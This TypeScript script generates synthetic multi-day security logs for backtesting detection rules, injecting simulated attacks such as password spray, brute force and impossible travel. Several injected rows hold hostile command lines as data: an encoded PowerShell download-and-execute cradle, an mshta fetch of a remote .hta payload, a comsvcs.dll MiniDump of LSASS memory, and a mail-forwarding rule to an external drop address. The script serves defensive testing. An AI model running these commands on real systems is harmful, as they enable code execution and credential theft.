/**
 * Synthetic multi-day workspace data for backtests: realistic background traffic for the tables the
 * starter rules read, plus injected attacks (password spray, brute force, encoded PowerShell,
 * threat-intel IP hits, ...) at a few per day so the rules fire a plausible number of times.
 * Deterministic for a given --seed. Writes <out>/<Table>/<YYYY-MM-DD>.ndjson.
 *
 *   npx tsx scripts/generate-logs.ts --days 7 --rows 1000000 --seed 42 --out .local/backtest-data
 */
import { existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parseArgs } from 'node:util';

type Row = Record<string, unknown> & { TimeGenerated: string };

const HOUR = 3_600_000;
const DAY = 24 * HOUR;

/** Share of the background rows each table gets; ThreatIntelIndicators is a fixed feed instead. */
const BACKGROUND_SHARE: Record<string, number> = {
  SigninLogs: 0.24,
  SecurityEvent: 0.2,
  CommonSecurityLog: 0.2,
  DeviceProcessEvents: 0.1,
  DeviceNetworkEvents: 0.08,
  Syslog: 0.07,
  OfficeActivity: 0.05,
  AzureActivity: 0.025,
  AuditLogs: 0.015,
  DeviceEvents: 0.01,
  Okta_CL: 0.01,
  GitHubAudit_CL: 0.005,
};

/** mulberry32: tiny, fast and good enough for synthetic data; the same seed gives the same dataset. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Generator {
  readonly random: () => number;
  readonly users: { upn: string; name: string; country: string; ip: string }[];
  readonly devices: { name: string; id: string }[];
  readonly threatIps: string[];

  constructor(seed: number) {
    this.random = prng(seed);
    const countries = ['US', 'US', 'US', 'GB', 'DE', 'FR', 'NL', 'IN'];
    this.users = Array.from({ length: 400 }, (_, i) => ({
      upn: `user${String(i).padStart(3, '0')}@contoso.com`,
      name: `user${String(i).padStart(3, '0')}`,
      country: this.pick(countries),
      ip: `10.${1 + (i % 20)}.${Math.floor(i / 20)}.${10 + (i % 200)}`,
    }));
    this.devices = Array.from({ length: 250 }, (_, i) => ({
      name: `wks-${String(i).padStart(3, '0')}.contoso.com`,
      id: this.hex(40),
    }));
    this.threatIps = Array.from(
      { length: 120 },
      (_, i) => `45.${133 + (i % 5)}.${this.int(0, 255)}.${this.int(1, 254)}`,
    );
  }

  int(min: number, max: number): number {
    return min + Math.floor(this.random() * (max - min + 1));
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)];
  }

  chance(p: number): boolean {
    return this.random() < p;
  }

  hex(length: number): string {
    let s = '';
    for (let i = 0; i < length; i++) s += '0123456789abcdef'[Math.floor(this.random() * 16)];
    return s;
  }

  guid(): string {
    const h = this.hex(32);
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-8${h.slice(17, 20)}-${h.slice(20, 32)}`;
  }

  /** A time in the day starting at `dayStart`, denser in office hours (08-18 UTC). */
  businessTime(dayStart: number): number {
    const hour = this.chance(0.75) ? this.int(8, 17) : this.int(0, 23);
    return dayStart + hour * HOUR + Math.floor(this.random() * HOUR);
  }

  externalIp(): string {
    return `${this.pick([20, 40, 52, 104, 151, 172])}.${this.int(0, 255)}.${this.int(0, 255)}.${this.int(1, 254)}`;
  }
}

const iso = (ms: number) => new Date(ms).toISOString();

// ---- background rows, one generator per table -------------------------------------------------

function signin(g: Generator, t: number): Row {
  const user = g.pick(g.users);
  const failed = g.chance(0.03);
  return {
    TimeGenerated: iso(t),
    UserPrincipalName: user.upn,
    UserDisplayName: user.name,
    IPAddress: g.chance(0.7) ? `203.0.113.${g.int(1, 30)}` : user.ip,
    ResultType: failed ? g.pick(['50126', '50074', '50140', '50126']) : '0',
    ResultDescription: failed ? 'Sign-in failed' : '',
    AppDisplayName: g.pick([
      'Office 365 Exchange Online',
      'Microsoft Teams',
      'Office 365 SharePoint Online',
      'Azure Portal',
    ]),
    ClientAppUsed: g.pick(['Browser', 'Mobile Apps and Desktop clients']),
    LocationDetails: { countryOrRegion: user.country, city: 'HQ' },
    IsInteractive: true,
    Category: 'SignInLogs',
  };
}

function securityEvent(g: Generator, t: number): Row {
  const device = g.pick(g.devices);
  const user = g.pick(g.users);
  const id = g.pick([4624, 4624, 4624, 4634, 4688, 4688, 4672, 4625]);
  return {
    TimeGenerated: iso(t),
    Computer: device.name,
    EventID: id,
    Activity: `${id} - ${{ 4624: 'An account was successfully logged on.', 4625: 'An account failed to log on.', 4634: 'An account was logged off.', 4672: 'Special privileges assigned to new logon.', 4688: 'A new process has been created.' }[id]}`,
    Account: `CONTOSO\\${user.name}`,
    TargetAccount: `CONTOSO\\${user.name}`,
    TargetUserName: user.name,
    IpAddress: id === 4624 || id === 4625 ? user.ip : '-',
    LogonType: id === 4624 || id === 4625 ? g.pick([2, 3, 10]) : null,
  };
}

function firewall(g: Generator, t: number): Row {
  const user = g.pick(g.users);
  return {
    TimeGenerated: iso(t),
    DeviceVendor: 'Palo Alto Networks',
    DeviceProduct: 'PAN-OS',
    DeviceAction: g.chance(0.95) ? 'allow' : 'deny',
    SourceIP: user.ip,
    DestinationIP: g.externalIp(),
    DestinationPort: g.pick([443, 443, 443, 80, 53, 123]),
    Protocol: 'TCP',
    Activity: 'TRAFFIC',
  };
}

function processEvent(g: Generator, t: number): Row {
  const device = g.pick(g.devices);
  const user = g.pick(g.users);
  const [parent, child, commandLine] = g.pick([
    ['explorer.exe', 'chrome.exe', '"chrome.exe" --type=renderer'],
    ['explorer.exe', 'outlook.exe', '"OUTLOOK.EXE"'],
    ['services.exe', 'svchost.exe', 'svchost.exe -k netsvcs -p'],
    ['cmd.exe', 'powershell.exe', 'powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1'],
    ['explorer.exe', 'winword.exe', '"WINWORD.EXE" /n report.docx'],
    ['excel.exe', 'cmd.exe', 'cmd.exe /c copy report.xlsx \\\\fs01\\share'],
  ]);
  return {
    TimeGenerated: iso(t),
    DeviceId: device.id,
    DeviceName: device.name,
    AccountDomain: 'contoso',
    AccountName: user.name,
    AccountUpn: user.upn,
    ActionType: 'ProcessCreated',
    FileName: child,
    FolderPath: `C:\\Windows\\System32\\${child}`,
    ProcessCommandLine: commandLine,
    InitiatingProcessFileName: parent,
    InitiatingProcessCommandLine: parent,
    SHA256: g.hex(64),
  };
}

function networkEvent(g: Generator, t: number): Row {
  const device = g.pick(g.devices);
  return {
    TimeGenerated: iso(t),
    DeviceId: device.id,
    DeviceName: device.name,
    ActionType: 'ConnectionSuccess',
    RemoteIP: g.externalIp(),
    RemotePort: g.pick([443, 443, 80]),
    LocalIP: '10.0.0.5',
    Protocol: 'Tcp',
    InitiatingProcessFileName: g.pick(['chrome.exe', 'teams.exe', 'svchost.exe']),
  };
}

function syslog(g: Generator, t: number): Row {
  const host = `lnx-${String(g.int(0, 40)).padStart(2, '0')}`;
  const ssh = g.chance(0.4);
  const user = g.pick(['deploy', 'ansible', 'admin', 'backup']);
  const from = `10.50.${g.int(0, 3)}.${g.int(2, 250)}`;
  return {
    TimeGenerated: iso(t),
    Computer: host,
    HostIP: `10.60.0.${g.int(2, 250)}`,
    Facility: ssh ? 'auth' : 'daemon',
    SeverityLevel: 'info',
    ProcessName: ssh ? 'sshd' : g.pick(['systemd', 'cron', 'kernel']),
    SyslogMessage: ssh
      ? `${g.chance(0.9) ? 'Accepted publickey' : 'Failed password'} for ${user} from ${from} port ${g.int(30000, 65000)} ssh2`
      : 'Started Session of user root.',
  };
}

function officeActivity(g: Generator, t: number): Row {
  const user = g.pick(g.users);
  const sharepoint = g.chance(0.6);
  return {
    TimeGenerated: iso(t),
    UserId: user.upn,
    OfficeWorkload: sharepoint ? g.pick(['SharePoint', 'OneDrive']) : 'Exchange',
    Operation: sharepoint
      ? g.pick(['FileAccessed', 'FileDownloaded', 'FileModified'])
      : g.pick(['MailItemsAccessed', 'Send']),
    ResultStatus: 'Succeeded',
    ClientIP: user.ip,
    OfficeObjectId: `https://contoso.sharepoint.com/sites/team/doc${g.int(1, 5000)}.docx`,
    SourceFileName: `doc${g.int(1, 5000)}.docx`,
    Site_Url: 'https://contoso.sharepoint.com/sites/team/',
    UserAgent: 'Mozilla/5.0',
  };
}

function azureActivity(g: Generator, t: number): Row {
  const user = g.pick(g.users);
  const op = g.pick([
    'Microsoft.Compute/virtualMachines/read',
    'Microsoft.Storage/storageAccounts/listKeys/action',
    'Microsoft.Compute/virtualMachines/write',
    'Microsoft.Network/networkSecurityGroups/write',
    'Microsoft.Resources/deployments/write',
  ]);
  return {
    TimeGenerated: iso(t),
    Caller: user.upn,
    CallerIpAddress: user.ip,
    OperationNameValue: op,
    ActivityStatusValue: 'Success',
    SubscriptionId: '00000000-1111-2222-3333-444444444444',
    ResourceGroup: g.pick(['rg-web', 'rg-data', 'rg-shared']),
    _ResourceId: `/subscriptions/00000000-1111-2222-3333-444444444444/resourcegroups/rg-web/providers/microsoft.compute/virtualmachines/vm${g.int(1, 60)}`,
    CorrelationId: g.guid(),
    CategoryValue: 'Administrative',
  };
}

function auditLog(g: Generator, t: number): Row {
  const actor = g.pick(g.users);
  const target = g.pick(g.users);
  return {
    TimeGenerated: iso(t),
    OperationName: g.pick([
      'Update user',
      'Add member to group',
      'Reset password (self-service)',
      'Update application',
    ]),
    Result: 'success',
    Category: 'UserManagement',
    InitiatedBy: { user: { userPrincipalName: actor.upn, ipAddress: actor.ip } },
    TargetResources: [{ userPrincipalName: target.upn, displayName: target.name, modifiedProperties: [] }],
    CorrelationId: g.guid(),
  };
}

function deviceEvent(g: Generator, t: number): Row {
  const device = g.pick(g.devices);
  const lsass = g.chance(0.3);
  return {
    TimeGenerated: iso(t),
    DeviceId: device.id,
    DeviceName: device.name,
    ActionType: lsass
      ? 'OpenProcessApiCall'
      : g.pick(['UsbDriveMounted', 'DnsQueryResponse', 'ScriptContent']),
    FileName: lsass ? 'lsass.exe' : '',
    InitiatingProcessFileName: lsass ? g.pick(['MsMpEng.exe', 'MsSense.exe', 'svchost.exe']) : 'explorer.exe',
    InitiatingProcessAccountName: 'system',
  };
}

function okta(g: Generator, t: number): Row {
  const user = g.pick(g.users);
  return {
    TimeGenerated: iso(t),
    EventId: g.guid(),
    EventType: g.pick(['user.session.start', 'user.authentication.sso', 'user.session.end']),
    ActorAlternateId: user.upn,
    ActorDisplayName: user.name,
    ClientIpAddress: `203.0.113.${g.int(1, 30)}`,
    ClientCountry: 'United States',
    OutcomeResult: g.chance(0.97) ? 'SUCCESS' : 'FAILURE',
  };
}

function github(g: Generator, t: number): Row {
  const user = g.pick(g.users);
  const action = g.pick(['git.clone', 'git.push', 'repo.access', 'org.add_member', 'pull_request.merge']);
  return {
    TimeGenerated: iso(t),
    DocumentId: g.hex(22),
    Action: action,
    Actor: user.name,
    ActorIpAddress: `203.0.113.${g.int(1, 30)}`,
    ActorCountryCode: 'US',
    Organization: 'contoso',
    Repository: `contoso/service-${g.int(1, 80)}`,
    User: action === 'org.add_member' ? g.pick(g.users).name : '',
    OperationType: 'access',
    AdditionalFields:
      action === 'org.add_member'
        ? { permission: 'read' }
        : action === 'repo.access'
          ? { visibility: 'private' }
          : {},
  };
}

const BACKGROUND: Record<string, (g: Generator, t: number) => Row> = {
  SigninLogs: signin,
  SecurityEvent: securityEvent,
  CommonSecurityLog: firewall,
  DeviceProcessEvents: processEvent,
  DeviceNetworkEvents: networkEvent,
  Syslog: syslog,
  OfficeActivity: officeActivity,
  AzureActivity: azureActivity,
  AuditLogs: auditLog,
  DeviceEvents: deviceEvent,
  Okta_CL: okta,
  GitHubAudit_CL: github,
};

// ---- injected attacks: each returns rows per table -----------------------------------------------

type Attack = (g: Generator, t: number) => [string, Row[]];

function repeat(n: number, f: (i: number) => Row): Row[] {
  return Array.from({ length: n }, (_, i) => f(i));
}

const ATTACKS: { perDay: number; run: Attack }[] = [
  {
    // Password spray: one IP, many accounts, invalid password.
    perDay: 2,
    run: (g, t) => {
      const ip = g.externalIp();
      return [
        'SigninLogs',
        repeat(g.int(12, 40), (i) => ({
          ...signin(g, t + i * 40_000),
          UserPrincipalName: g.users[(i * 7) % g.users.length].upn,
          IPAddress: ip,
          ResultType: '50126',
        })),
      ];
    },
  },
  {
    // Brute force that succeeds: one user, one IP, failures then a success.
    perDay: 1,
    run: (g, t) => {
      const user = g.pick(g.users);
      const ip = g.externalIp();
      const n = g.int(11, 25);
      return [
        'SigninLogs',
        repeat(n + 1, (i) => ({
          ...signin(g, t + i * 30_000),
          UserPrincipalName: user.upn,
          IPAddress: ip,
          ResultType: i < n ? '50126' : '0',
          LocationDetails: { countryOrRegion: user.country },
        })),
      ];
    },
  },
  {
    // Impossible travel: successful sign-ins from two countries within minutes.
    perDay: 1,
    run: (g, t) => {
      const user = g.pick(g.users);
      return [
        'SigninLogs',
        [
          {
            ...signin(g, t),
            UserPrincipalName: user.upn,
            ResultType: '0',
            LocationDetails: { countryOrRegion: user.country },
          },
          {
            ...signin(g, t + 600_000),
            UserPrincipalName: user.upn,
            ResultType: '0',
            IPAddress: g.externalIp(),
            LocationDetails: { countryOrRegion: 'RU' },
          },
        ],
      ];
    },
  },
  {
    // Sign-ins from a threat-intel IP.
    perDay: 1,
    run: (g, t) => [
      'SigninLogs',
      repeat(3, (i) => ({ ...signin(g, t + i * 60_000), IPAddress: g.threatIps[i] })),
    ],
  },
  {
    // Outbound traffic to threat-intel IPs.
    perDay: 2,
    run: (g, t) => [
      'CommonSecurityLog',
      repeat(g.int(1, 5), (i) => ({ ...firewall(g, t + i * 5_000), DestinationIP: g.pick(g.threatIps) })),
    ],
  },
  {
    // Port scan: one source probes 30-80 ports of one host.
    perDay: 1,
    run: (g, t) => {
      const source = g.externalIp();
      const target = `10.0.${g.int(0, 9)}.${g.int(2, 250)}`;
      return [
        'CommonSecurityLog',
        repeat(g.int(30, 80), (i) => ({
          ...firewall(g, t + i * 500),
          SourceIP: source,
          DestinationIP: target,
          DestinationPort: 20 + i * 7,
          DeviceAction: 'deny',
        })),
      ];
    },
  },
  {
    // Windows failed-logon burst from one IP.
    perDay: 1,
    run: (g, t) => {
      const device = g.pick(g.devices);
      const ip = g.externalIp();
      return [
        'SecurityEvent',
        repeat(g.int(25, 60), (i) => ({
          ...securityEvent(g, t + i * 20_000),
          Computer: device.name,
          EventID: 4625,
          Activity: '4625 - An account failed to log on.',
          IpAddress: ip,
          TargetAccount: `CONTOSO\\${g.pick(g.users).name}`,
          LogonType: 3,
        })),
      ];
    },
  },
  {
    // Security log cleared.
    perDay: 0.5,
    run: (g, t) => [
      'SecurityEvent',
      [
        {
          ...securityEvent(g, t),
          EventID: 1102,
          Activity: '1102 - The audit log was cleared.',
          SubjectUserName: g.pick(g.users).name,
          SubjectDomainName: 'CONTOSO',
          SubjectLogonId: '0x3e7',
        },
      ],
    ],
  },
  {
    // Encoded PowerShell.
    perDay: 2,
    run: (g, t) => [
      'DeviceProcessEvents',
      [
        {
          ...processEvent(g, t),
          FileName: 'powershell.exe',
          InitiatingProcessFileName: 'cmd.exe',
          ProcessCommandLine: `powershell.exe -NoP -W Hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${g.externalIp()}/a')`, 'utf16le').toString('base64')}`,
        },
      ],
    ],
  },
  {
    // Office document spawning mshta (rare child).
    perDay: 1,
    run: (g, t) => [
      'DeviceProcessEvents',
      [
        {
          ...processEvent(g, t),
          InitiatingProcessFileName: 'winword.exe',
          FileName: 'mshta.exe',
          ProcessCommandLine: `mshta.exe http://${g.externalIp()}/payload.hta`,
        },
      ],
    ],
  },
  {
    // LSASS memory access by a dumping tool.
    perDay: 0.5,
    run: (g, t) => [
      'DeviceEvents',
      [
        {
          ...deviceEvent(g, t),
          ActionType: 'OpenProcessApiCall',
          FileName: 'lsass.exe',
          InitiatingProcessFileName: 'rundll32.exe',
          InitiatingProcessCommandLine:
            'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full',
        },
      ],
    ],
  },
  {
    // SSH brute force against a Linux host.
    perDay: 1,
    run: (g, t) => {
      const ip = g.externalIp();
      const host = `lnx-${String(g.int(0, 40)).padStart(2, '0')}`;
      return [
        'Syslog',
        repeat(g.int(20, 60), (i) => ({
          ...syslog(g, t + i * 10_000),
          Computer: host,
          ProcessName: 'sshd',
          Facility: 'auth',
          SyslogMessage: `Failed password for invalid user ${g.pick(['root', 'admin', 'oracle', 'test'])} from ${ip} port ${g.int(30000, 65000)} ssh2`,
        })),
      ];
    },
  },
  {
    // Inbox rule forwarding to an external address.
    perDay: 1,
    run: (g, t) => {
      const user = g.pick(g.users);
      return [
        'OfficeActivity',
        [
          {
            ...officeActivity(g, t),
            UserId: user.upn,
            OfficeWorkload: 'Exchange',
            Operation: 'New-InboxRule',
            ResultStatus: 'True',
            ClientIP: `${g.externalIp()}:51234`,
            Parameters: JSON.stringify([
              { Name: 'Name', Value: 'sync' },
              { Name: 'ForwardTo', Value: 'drop@protonmail.example' },
            ]),
          },
        ],
      ];
    },
  },
  {
    // Mass download from SharePoint.
    perDay: 0.5,
    run: (g, t) => {
      const user = g.pick(g.users);
      const ip = g.externalIp();
      return [
        'OfficeActivity',
        repeat(g.int(60, 150), (i) => ({
          ...officeActivity(g, t + i * 3_000),
          UserId: user.upn,
          ClientIP: ip,
          OfficeWorkload: 'SharePoint',
          Operation: 'FileDownloaded',
          OfficeObjectId: `https://contoso.sharepoint.com/sites/finance/f${i}.xlsx`,
          SourceFileName: `f${i}.xlsx`,
        })),
      ];
    },
  },
  {
    // Owner role assignment at subscription scope.
    perDay: 1,
    run: (g, t) => {
      const user = g.pick(g.users);
      const body = {
        properties: {
          roleDefinitionId:
            '/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635',
          principalId: g.guid(),
          principalType: 'User',
          scope: '/subscriptions/00000000-1111-2222-3333-444444444444',
        },
      };
      return [
        'AzureActivity',
        [
          {
            ...azureActivity(g, t),
            Caller: user.upn,
            OperationNameValue: 'Microsoft.Authorization/roleAssignments/write',
            ActivityStatusValue: 'Success',
            Properties_d: { responseBody: JSON.stringify(body) },
          },
        ],
      ];
    },
  },
  {
    // Burst of resource deletions by one caller.
    perDay: 0.34,
    run: (g, t) => {
      const user = g.pick(g.users);
      return [
        'AzureActivity',
        repeat(g.int(12, 30), (i) => ({
          ...azureActivity(g, t + i * 20_000),
          Caller: user.upn,
          OperationNameValue: 'Microsoft.Compute/virtualMachines/delete',
          _ResourceId: `/subscriptions/00000000-1111-2222-3333-444444444444/resourcegroups/rg-web/providers/microsoft.compute/virtualmachines/vm-del-${i}`,
        })),
      ];
    },
  },
  {
    // Privileged Entra role granted.
    perDay: 1,
    run: (g, t) => {
      const target = g.pick(g.users);
      return [
        'AuditLogs',
        [
          {
            ...auditLog(g, t),
            OperationName: 'Add member to role',
            Category: 'RoleManagement',
            TargetResources: [
              {
                userPrincipalName: target.upn,
                modifiedProperties: [
                  { displayName: 'Role.DisplayName', oldValue: '""', newValue: '"Global Administrator"' },
                ],
              },
            ],
          },
        ],
      ];
    },
  },
  {
    // One endpoint beaconing to a threat-intel IP.
    perDay: 1,
    run: (g, t) => {
      const device = g.pick(g.devices);
      return [
        'DeviceNetworkEvents',
        repeat(g.int(3, 10), (i) => ({
          ...networkEvent(g, t + i * 60_000),
          DeviceId: device.id,
          DeviceName: device.name,
          RemoteIP: g.threatIps[7],
          RemoteIPType: 'Public',
          RemotePort: 443,
          InitiatingProcessFileName: 'rundll32.exe',
        })),
      ];
    },
  },
  {
    // Okta sign-in through an anonymizing proxy.
    perDay: 1,
    run: (g, t) => [
      'Okta_CL',
      [
        {
          ...okta(g, t),
          EventType: 'user.session.start',
          OutcomeResult: 'SUCCESS',
          ClientIpAddress: g.externalIp(),
          SecurityContext: { isProxy: true, asOrg: 'Tor exit' },
        },
      ],
    ],
  },
  {
    // Okta MFA factors reset by the help desk.
    perDay: 0.5,
    run: (g, t) => {
      const target = g.pick(g.users);
      return [
        'Okta_CL',
        [
          {
            ...okta(g, t),
            EventType: 'user.mfa.factor.reset_all',
            OutcomeResult: 'SUCCESS',
            DisplayMessage: 'Reset all factors for user',
            Target: [{ type: 'User', alternateId: target.upn, displayName: target.name }],
          },
        ],
      ];
    },
  },
  {
    // New GitHub organization owner.
    perDay: 0.3,
    run: (g, t) => [
      'GitHubAudit_CL',
      [
        {
          ...github(g, t),
          Action: 'org.update_member',
          User: g.pick(g.users).name,
          AdditionalFields: { permission: 'admin' },
        },
      ],
    ],
  },
  {
    // Private repository made public.
    perDay: 0.5,
    run: (g, t) => [
      'GitHubAudit_CL',
      [
        {
          ...github(g, t),
          Action: 'repo.access',
          AdditionalFields: { visibility: 'public', previous_visibility: 'private' },
        },
      ],
    ],
  },
  {
    // Admin consent to an application.
    perDay: 0.5,
    run: (g, t) => [
      'AuditLogs',
      [
        {
          ...auditLog(g, t),
          OperationName: 'Consent to application',
          Category: 'ApplicationManagement',
          TargetResources: [
            {
              id: g.guid(),
              displayName: 'Mail Sync Pro',
              modifiedProperties: [
                { displayName: 'ConsentContext.IsAdminConsent', oldValue: '', newValue: '"True"' },
              ],
            },
          ],
        },
      ],
    ],
  },
];

/** The threat-intel feed: every indicator re-published once a day, as TAXII feeds refresh them. */
function threatIntel(g: Generator, dayStart: number): Row[] {
  return g.threatIps.map((ip, i) => ({
    TimeGenerated: iso(dayStart + 60_000 + i * 1000),
    Id: `indicator--${String(i).padStart(8, '0')}-0000-4000-8000-000000000000`,
    ObservableKey: 'ipv4-addr:value',
    ObservableValue: ip,
    Pattern: `[ipv4-addr:value = '${ip}']`,
    Confidence: 80,
    Source: 'ThreatFox',
    IsActive: true,
    IsDeleted: false,
    Revoked: false,
    ValidFrom: iso(dayStart - 30 * DAY),
    ValidUntil: iso(dayStart + 90 * DAY),
    Data: { name: `Botnet C2 ${ip}`, description: 'Command and control server' },
    Tags: 'botnet',
  }));
}

const USAGE = `usage: generate-logs.ts [--days N] [--rows N] [--seed N] [--start ISO] [--out DIR] [--force]

Writes <DIR>/<Table>/<YYYY-MM-DD>.ndjson (default DIR .local/backtest-data). DIR must be empty or
absent; --force replaces what is in it.`;

function parseOptions(argv: string[]) {
  return parseArgs({
    args: argv,
    options: {
      days: { type: 'string', default: '7' },
      rows: { type: 'string', default: '1000000' },
      seed: { type: 'string', default: '42' },
      start: { type: 'string', default: '2026-01-01T00:00:00Z' },
      out: { type: 'string', default: '.local/backtest-data' },
      force: { type: 'boolean', default: false },
      help: { type: 'boolean', short: 'h', default: false },
    },
  }).values;
}

/** Runs the generator with command-line arguments; returns the exit code. */
export function run(argv: string[]): number {
  let values: ReturnType<typeof parseOptions>;
  try {
    values = parseOptions(argv);
  } catch (error) {
    console.error(`error: ${(error as Error).message}\n${USAGE}`);
    return 2;
  }
  if (values.help) {
    console.log(USAGE);
    return 0;
  }
  const days = Number(values.days);
  const total = Number(values.rows);
  const start = Date.parse(values.start);
  if (!(days > 0) || !(total >= 0) || Number.isNaN(start)) {
    console.error(USAGE);
    return 2;
  }
  // The folder is replaced, so one that holds anything is only touched when asked: `--out .` must
  // not wipe the working folder.
  if (existsSync(values.out) && readdirSync(values.out).length > 0 && !values.force) {
    console.error(
      `error: ${values.out} is not empty; choose an empty folder or add --force to replace its contents`,
    );
    return 2;
  }
  const g = new Generator(Number(values.seed));
  rmSync(values.out, { recursive: true, force: true });
  const counts = new Map<string, number>();
  const started = performance.now();
  for (let day = 0; day < days; day++) {
    const dayStart = start + day * DAY;
    const tables = new Map<string, Row[]>();
    const add = (table: string, rows: Row[]) => tables.set(table, [...(tables.get(table) ?? []), ...rows]);
    for (const [table, share] of Object.entries(BACKGROUND_SHARE)) {
      const n = Math.round((total * share) / days);
      const make = BACKGROUND[table];
      const rows: Row[] = new Array(n);
      for (let i = 0; i < n; i++) rows[i] = make(g, g.businessTime(dayStart));
      add(table, rows);
    }
    add('ThreatIntelIndicators', threatIntel(g, dayStart));
    for (const attack of ATTACKS) {
      // Fractional rates: 0.5 = every other day, decided by the seeded generator.
      const times = Math.floor(attack.perDay) + (g.chance(attack.perDay % 1) ? 1 : 0);
      for (let k = 0; k < times; k++) {
        const [table, rows] = attack.run(g, dayStart + g.int(0, 23) * HOUR + g.int(0, 40) * 60_000);
        add(table, rows);
      }
    }
    const date = iso(dayStart).slice(0, 10);
    for (const [table, rows] of tables) {
      rows.sort((a, b) =>
        a.TimeGenerated < b.TimeGenerated ? -1 : a.TimeGenerated > b.TimeGenerated ? 1 : 0,
      );
      mkdirSync(join(values.out, table), { recursive: true });
      writeFileSync(
        join(values.out, table, `${date}.ndjson`),
        `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`,
      );
      counts.set(table, (counts.get(table) ?? 0) + rows.length);
    }
  }
  const sum = [...counts.values()].reduce((a, b) => a + b, 0);
  for (const [table, n] of [...counts].sort()) console.log(`${table.padEnd(24)} ${n}`);
  console.log(
    `${'total'.padEnd(24)} ${sum} rows, ${days} days from ${values.start}, seed ${values.seed} -> ${values.out} (${((performance.now() - started) / 1000).toFixed(1)} s)`,
  );
  return 0;
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  process.exitCode = run(process.argv.slice(2));
}
